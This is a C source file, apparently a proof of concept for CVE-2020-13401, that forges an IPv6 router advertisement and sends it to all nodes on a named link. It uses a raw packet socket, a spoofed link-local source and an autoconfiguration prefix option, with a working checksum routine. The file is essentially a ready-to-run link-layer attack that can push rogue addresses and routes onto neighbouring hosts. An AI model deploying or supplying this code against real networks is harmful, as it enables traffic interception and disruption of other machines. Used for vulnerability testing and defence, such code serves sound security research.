// A router advertisement for 2001:db8:bad::/64, to all nodes of a link (CVE-2020-13401). RFC 4861, RFC 4862.
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int advertise(const char *link);

struct advertisement {
    // IPv6
    uint32_t version;
    uint16_t length;
    uint8_t next, hops;
    uint8_t source[16], destination[16];
    // ICMPv6
    uint8_t type, code;
    uint16_t checksum;
    uint8_t hop_limit, flags;
    uint16_t lifetime;
    uint32_t reachable, retransmission;
    // Its option: a prefix to make addresses of
    uint8_t option, units, prefix_length, prefix_flags;
    uint32_t valid, preferred, reserved;
    uint8_t prefix[16];
} __attribute__((packed));

enum { HEADER = 40 };

static uint16_t checksum(const struct advertisement *packet) {
    const uint8_t *bytes = (const uint8_t *)packet;
    uint32_t sum = packet->next + (sizeof *packet - HEADER);
    // From the source address on: the pseudo-header's addresses, then the message.
    for (unsigned i = 8; i < sizeof *packet; i += 2) sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

int advertise(const char *link) {
    struct advertisement packet = {
        .version = htonl(6U << 28), .length = htons(sizeof packet - HEADER), .next = IPPROTO_ICMPV6, .hops = 255,
        .type = 134, .hop_limit = 64, .lifetime = htons(1800),
        .option = 3, .units = 4, .prefix_length = 64, .prefix_flags = 0xc0,
        .valid = htonl(3600), .preferred = htonl(3600),
    };
    inet_pton(AF_INET6, "fe80::bad", packet.source);
    inet_pton(AF_INET6, "ff02::1", packet.destination);
    inet_pton(AF_INET6, "2001:db8:bad::", packet.prefix);
    packet.checksum = checksum(&packet);
    struct sockaddr_ll to = {
        .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IPV6), .sll_ifindex = (int)if_nametoindex(link),
        .sll_halen = 6, .sll_addr = {0x33, 0x33, 0, 0, 0, 1},
    };
    int sender = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_IPV6));
    long sent = sendto(sender, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to);
    close(sender);
    return sent == sizeof packet ? 0 : 1;
}
